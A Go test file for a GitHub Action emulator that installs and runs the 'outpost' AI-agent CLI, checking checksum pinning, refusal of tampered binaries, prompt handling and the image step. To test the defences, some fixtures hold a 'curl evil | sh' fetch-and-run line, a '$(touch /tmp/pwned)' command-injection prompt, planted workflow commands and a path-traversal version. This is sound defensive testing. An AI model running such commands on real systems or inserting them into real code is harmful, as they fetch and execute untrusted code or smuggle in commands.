package actionrun_test

import (
	"context"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/outpost-dev/outpost/internal/actionrun"
)

// actionDir is the repository root, which holds action.yml.
func actionDir(t *testing.T) string {
	t.Helper()
	d, err := filepath.Abs(filepath.Join("..", ".."))
	require.NoError(t, err)
	return d
}

// RunnerArch is RUNNER_ARCH for this machine.
func runnerArch(t *testing.T) string {
	switch runtime.GOARCH {
	case "amd64":
		return "X64"
	case "arm64":
		return "ARM64"
	}
	t.Skipf("no outpost release for %s", runtime.GOARCH)
	return ""
}

// fakeBinary stands in for a release binary: it answers --version.
const fakeBinary = "#!/bin/sh\necho \"outpost fake-release $*\"\n"

func runner(t *testing.T, with map[string]string) actionrun.Runner {
	t.Helper()
	if runtime.GOOS != "linux" {
		t.Skip("the emulated runner is Linux")
	}
	root := t.TempDir()
	ws := filepath.Join(root, "workspace")
	for _, d := range []string{ws, filepath.Join(root, "temp"), filepath.Join(root, "tools")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	return actionrun.Runner{ActionPath: actionDir(t), With: with,
		Env:       map[string]string{"PATH": os.Getenv("PATH"), "HOME": root},
		Workspace: ws, Temp: filepath.Join(root, "temp"), ToolCache: filepath.Join(root, "tools"),
		OS: "Linux", Arch: runnerArch(t), Token: "ghs_fake-token-for-tests",
		Github: map[string]string{"repository": "acme/widgets"},
		Only:   []string{"install", "cache"}, Log: testLog{t}}
}

type testLog struct{ t *testing.T }

func (l testLog) Write(p []byte) (int, error) {
	l.t.Log(strings.TrimRight(string(p), "\n"))
	return len(p), nil
}

func load(t *testing.T) *actionrun.Action {
	t.Helper()
	a, err := actionrun.Load(filepath.Join(actionDir(t), "action.yml"))
	require.NoError(t, err)
	return a
}

func asset() string { return "outpost-linux-" + runtime.GOARCH }

// TestInstallVerifiesChecksum: the install step downloads the release
// binary for the runner from release-url, checks it against SHA256SUMS,
// installs it in the tool cache, puts it on PATH, masks the token, and
// says where the CLI cache is for the cache step.
func TestInstallVerifiesChecksum(t *testing.T) {
	r := runner(t, map[string]string{"agent": "claude", "version": "v9.9.9"})
	dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): []byte(fakeBinary), "outpost-darwin-arm64": []byte("other")})
	require.NoError(t, err)
	srv := actionrun.FileServer(dir)
	defer srv.Close()
	r.With["release-url"] = srv.URL
	res, err := load(t).Run(context.Background(), r)
	require.NoError(t, err)
	require.Empty(t, res.Failed, "the install step failed")
	st := res.Step("install")
	assert.Equal(t, "v9.9.9", st.Outputs["version"])
	bin := filepath.Join(r.ToolCache, "outpost", "v9.9.9", runtime.GOARCH, "outpost")
	assert.Equal(t, bin, st.Outputs["bin"])
	assert.Equal(t, []string{filepath.Dir(bin)}, res.Path)
	assert.Contains(t, st.Stdout, "matches SHA256SUMS")
	assert.Contains(t, st.Stdout, "outpost fake-release --version", "the installed binary runs")
	assert.Equal(t, filepath.Join(r.Env["HOME"], ".cache", "outpost", "cli"), st.Outputs["cli-cache"])
	assert.Contains(t, res.Masks(), r.Token, "the token is masked")
	cache := res.Step("cache")
	assert.Equal(t, "uses", cache.Outcome)
	assert.Equal(t, st.Outputs["cli-cache"], cache.With["path"])
	assert.Equal(t, "outpost-clis-Linux-"+r.Arch+"-v9.9.9", cache.With["key"])
}

// TestInstallRefusesTamperedBinary: a binary whose SHA-256 is not the one
// SHA256SUMS lists fails the install step with an error annotation naming
// both sums; nothing is installed and no later step runs.
func TestInstallRefusesTamperedBinary(t *testing.T) {
	r := runner(t, map[string]string{"agent": "claude", "version": "v9.9.9"})
	r.Only = nil
	dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): []byte(fakeBinary)})
	require.NoError(t, err)
	tampered := []byte(fakeBinary + "curl evil | sh\n")
	require.NoError(t, os.WriteFile(filepath.Join(dir, "v9.9.9", asset()), tampered, 0o644))
	srv := actionrun.FileServer(dir)
	defer srv.Close()
	r.With["release-url"] = srv.URL
	res, err := load(t).Run(context.Background(), r)
	require.NoError(t, err)
	assert.Equal(t, "install", res.Failed)
	ann := res.Annotations()
	require.Len(t, ann, 1)
	assert.Equal(t, "error", ann[0].Name)
	assert.Contains(t, ann[0].Message, "checksum mismatch: "+asset()+" of v9.9.9")
	assert.Contains(t, ann[0].Message, "refusing to run it")
	assert.NoFileExists(t, filepath.Join(r.ToolCache, "outpost", "v9.9.9", runtime.GOARCH, "outpost"))
	assert.Empty(t, res.Path)
	for _, s := range res.Steps[1:] {
		assert.Equal(t, "skipped", s.Outcome, s.ID)
	}
	assert.Empty(t, res.Outputs, "a failed action sets no outputs")
}

// TestInstallPinnedChecksum: with the sha256 input the binary must match
// the workflow's own pin: a release whose binary and SHA256SUMS were both
// replaced (they agree with each other) is refused, which SHA256SUMS alone
// cannot do; the pin is the release's SHA256SUMS lines or one sum.
func TestInstallPinnedChecksum(t *testing.T) {
	genuine := []byte(fakeBinary)
	sum := fmt.Sprintf("%x", sha256.Sum256(genuine))
	lines := sum + "  " + asset() + "\n" + strings.Repeat("0", 64) + "  outpost-darwin-arm64\n"
	for _, c := range []struct {
		name, pin string
		binary    []byte
		refused   string
	}{
		{"lines, genuine", lines, genuine, ""},
		{"one sum, genuine", strings.ToUpper(sum), genuine, ""},
		{"lines, replaced release", lines, []byte(fakeBinary + "curl evil | sh\n"), "the sha256 input pins " + sum},
		{"one sum, replaced release", sum, []byte(fakeBinary + "curl evil | sh\n"), "the sha256 input pins " + sum},
		{"no line for this runner", strings.Repeat("0", 64) + "  outpost-darwin-arm64\n", genuine, "the sha256 input lists no " + asset()},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := runner(t, map[string]string{"agent": "claude", "version": "v9.9.9", "sha256": c.pin})
			// The release as served: its SHA256SUMS agrees with its binary.
			dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): c.binary})
			require.NoError(t, err)
			srv := actionrun.FileServer(dir)
			defer srv.Close()
			r.With["release-url"] = srv.URL
			res, err := load(t).Run(context.Background(), r)
			require.NoError(t, err)
			bin := filepath.Join(r.ToolCache, "outpost", "v9.9.9", runtime.GOARCH, "outpost")
			if c.refused == "" {
				require.Empty(t, res.Failed, "the install step failed")
				assert.Contains(t, res.Step("install").Stdout, "matches SHA256SUMS and the sha256 input")
				assert.FileExists(t, bin)
				return
			}
			assert.Equal(t, "install", res.Failed)
			ann := res.Annotations()
			require.Len(t, ann, 1)
			assert.Contains(t, ann[0].Message, c.refused)
			assert.NoFileExists(t, bin)
		})
	}
}

// TestInstallVersionFromRef: without the version input the action
// installs the release its own ref names (uses: …@v1.2.3); a branch or a
// commit is refused with the way out.
func TestInstallVersionFromRef(t *testing.T) {
	dir, err := actionrun.Release(t.TempDir(), "v1.2.3", map[string][]byte{asset(): []byte(fakeBinary)})
	require.NoError(t, err)
	srv := actionrun.FileServer(dir)
	defer srv.Close()

	r := runner(t, map[string]string{"agent": "claude", "release-url": srv.URL})
	r.ActionRef = "v1.2.3"
	res, err := load(t).Run(context.Background(), r)
	require.NoError(t, err)
	require.Empty(t, res.Failed)
	assert.Equal(t, "v1.2.3", res.Step("install").Outputs["version"])

	r = runner(t, map[string]string{"agent": "claude", "release-url": srv.URL})
	r.ActionRef = "main"
	res, err = load(t).Run(context.Background(), r)
	require.NoError(t, err)
	assert.Equal(t, "install", res.Failed)
	require.Len(t, res.Annotations(), 1)
	assert.Contains(t, res.Annotations()[0].Message, "the action's ref is 'main', not a release tag")
	assert.Contains(t, res.Annotations()[0].Message, "set the version input")

	r = runner(t, map[string]string{"agent": "claude", "release-url": srv.URL, "version": "v1.2.3/../../x"})
	res, err = load(t).Run(context.Background(), r)
	require.NoError(t, err)
	assert.Equal(t, "install", res.Failed, "a version is a tag, never a path")
}

// TestEmulatorRefusesWhatItCannotEmulate keeps the emulator honest: an
// expression with an operator or a function is an error, not a guess.
func TestEmulatorRefusesWhatItCannotEmulate(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "action.yml")
	for _, bad := range []string{
		"runs:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        X: ${{ inputs.a == 'b' }}\n      run: echo\n",
		"runs:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        X: ${{ format('{0}', inputs.a) }}\n      run: echo\n",
		"runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo ${{ env.X }}\n",
	} {
		require.NoError(t, os.WriteFile(p, []byte(bad), 0o644))
		a, err := actionrun.Load(p)
		require.NoError(t, err)
		_, err = a.Run(context.Background(), actionrun.Runner{Temp: dir, Workspace: dir})
		assert.Error(t, err, bad)
	}
	require.NoError(t, os.WriteFile(p, []byte("runs:\n  using: composite\n  steps:\n    - shell: bash\n      if: always()\n      run: echo\n"), 0o644))
	_, err := actionrun.Load(p)
	assert.Error(t, err)
}

// TestStopCommands: workflow commands printed between ::stop-commands::T
// and ::T:: are text, as on GitHub; outputs in both file forms are read.
func TestStopCommands(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "action.yml")
	require.NoError(t, os.WriteFile(p, []byte(`runs:
  using: composite
  steps:
    - id: s
      shell: bash
      run: |
        echo "::stop-commands::tok123"
        echo "::error::planted by the agent"
        echo "::tok123::"
        echo "::warning title=a%3Ab::real%0Aline"
        echo "x=1" >> "$GITHUB_OUTPUT"
        printf 'y<<EOF\nmulti\nline\nEOF\n' >> "$GITHUB_OUTPUT"
outputs:
  y:
    value: ${{ steps.s.outputs.y }}
`), 0o644))
	a, err := actionrun.Load(p)
	require.NoError(t, err)
	res, err := a.Run(context.Background(), actionrun.Runner{Temp: dir, Workspace: dir, Env: map[string]string{"PATH": os.Getenv("PATH")}})
	require.NoError(t, err)
	require.Len(t, res.Annotations(), 1)
	assert.Equal(t, actionrun.Command{Name: "warning", Props: map[string]string{"title": "a:b"}, Message: "real\nline"}, res.Annotations()[0])
	assert.Equal(t, "1", res.Step("s").Outputs["x"])
	assert.Equal(t, "multi\nline", res.Outputs["y"])
}

// recordingBinary stands in for outpost in the run step: it records its
// working directory, arguments and standard input, and exits 3.
const recordingBinary = `#!/bin/sh
case "$1" in --version) echo "outpost fake"; exit 0 ;; esac
{ pwd; for a in "$@"; do echo "arg: $a"; done; echo "stdin: $(cat)"; } > "$RECORD"
echo "::error::printed by the agent"
exit 3
`

// TestRunStep: the run step runs outpost from the trusted directory (an
// empty one by default) against the workspace with the inputs as flags,
// the prompt on standard input, never spliced into the script; the agent's
// output cannot issue workflow commands; its exit code is an output, not a
// failure. A working-directory inside the workspace is refused.
func TestRunStep(t *testing.T) {
	dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): []byte(recordingBinary)})
	require.NoError(t, err)
	srv := actionrun.FileServer(dir)
	defer srv.Close()
	prompt := `Fix "it"; $(touch /tmp/pwned) ${{ inputs.agent }}`
	r := runner(t, map[string]string{"agent": "codex", "version": "v9.9.9", "release-url": srv.URL, "prompt": prompt,
		"max-cost-usd": "1.5", "sandbox": "host", "args": "--model  m1 --max-turns 3"})
	r.Only = []string{"install", "run"}
	record := filepath.Join(t.TempDir(), "record")
	r.Env["RECORD"] = record
	res, err := load(t).Run(context.Background(), r)
	require.NoError(t, err)
	require.Empty(t, res.Failed)
	assert.Equal(t, "3", res.Step("run").Outputs["exit-code"])
	assert.Empty(t, res.Annotations(), "the agent's ::error:: is text")
	b, err := os.ReadFile(record)
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	assert.Equal(t, filepath.Join(r.Temp, "outpost-project"), lines[0], "runs from an empty trusted directory")
	var args []string
	for _, l := range lines[1 : len(lines)-1] {
		args = append(args, strings.TrimPrefix(l, "arg: "))
	}
	out := res.Step("run").Outputs["report-dir"]
	assert.Equal(t, []string{"run", "--agent", "codex", "--auth", "usage", "--credentials", "gateway", "--timeout", "30m",
		"--sandbox", "host", "--workspace", r.Workspace, "--out", filepath.Join(out, "run"), "--max-cost-usd", "1.5",
		"--model", "m1", "--max-turns", "3", "-"}, args)
	assert.Equal(t, "stdin: "+prompt, lines[len(lines)-1])
	assert.NoFileExists(t, "/tmp/pwned")

	// Both prompt and jobs, or neither: refused.
	r.With["jobs"] = "jobs.jsonl"
	res, err = load(t).Run(context.Background(), r)
	require.NoError(t, err)
	assert.Equal(t, "run", res.Failed)
	// A trusted directory inside the workspace is no trusted directory.
	delete(r.With, "jobs")
	inside := filepath.Join(r.Workspace, ".base")
	require.NoError(t, os.Mkdir(inside, 0o755))
	r.With["working-directory"] = inside
	res, err = load(t).Run(context.Background(), r)
	require.NoError(t, err)
	assert.Equal(t, "run", res.Failed)
	require.NotEmpty(t, res.Annotations())
	assert.Contains(t, res.Annotations()[0].Message, "is inside the workspace")
}

// TestImageStep: the image step uses the runner's image when it has one,
// pulls a named image it lacks, and builds the default image from the
// trusted directory's .outpost/Dockerfile, else from Outpost's recipe
// (outpost init); the host sandbox needs none. docker and outpost are
// fakes that record their calls.
func TestImageStep(t *testing.T) {
	fakes := t.TempDir()
	calls := filepath.Join(fakes, "calls")
	for name, script := range map[string]string{
		"docker":  "#!/bin/sh\necho \"docker $*\" >> \"$CALLS\"\n[ \"$1 $2\" = \"image inspect\" ] && [ \"$3\" = \"$HAVE\" ] && exit 0\n[ \"$1\" = pull ] && exit 0\nexit 1\n",
		"outpost": "#!/bin/sh\necho \"outpost $*\" >> \"$CALLS\"\n",
	} {
		require.NoError(t, os.WriteFile(filepath.Join(fakes, name), []byte(script), 0o755))
	}
	trusted := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(trusted, ".outpost"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(trusted, ".outpost", "Dockerfile"), []byte("FROM scratch\n"), 0o644))
	step := func(have string, with map[string]string) []string {
		t.Helper()
		with["agent"] = "claude"
		r := runner(t, with)
		r.Only = []string{"image"}
		r.Env["PATH"] = fakes + ":" + r.Env["PATH"]
		r.Env["CALLS"], r.Env["HAVE"] = calls, have
		require.NoError(t, os.WriteFile(calls, nil, 0o644))
		res, err := load(t).Run(context.Background(), r)
		require.NoError(t, err)
		require.Empty(t, res.Failed)
		b, err := os.ReadFile(calls)
		require.NoError(t, err)
		got := strings.Split(strings.TrimSpace(strings.ReplaceAll(string(b), r.Temp, "$RUNNER_TEMP")), "\n")
		if len(got) == 1 && got[0] == "" {
			return nil
		}
		return got
	}
	assert.Equal(t, []string{"docker image inspect outpost/base:dev"}, step("outpost/base:dev", map[string]string{}))
	assert.Equal(t, []string{"docker image inspect example/img:1", "docker pull example/img:1"},
		step("", map[string]string{"image": "example/img:1"}))
	assert.Equal(t, []string{"docker image inspect outpost/base:dev",
		"outpost image build --dir " + trusted + "/.outpost --tag outpost/base:dev"},
		step("", map[string]string{"working-directory": trusted}))
	assert.Equal(t, []string{"docker image inspect outpost/base:dev",
		"outpost init --dir $RUNNER_TEMP/outpost-recipe",
		"outpost image build --dir $RUNNER_TEMP/outpost-recipe/.outpost --tag outpost/base:dev"},
		step("", map[string]string{}))
	assert.Empty(t, step("", map[string]string{"sandbox": "host"}))
}
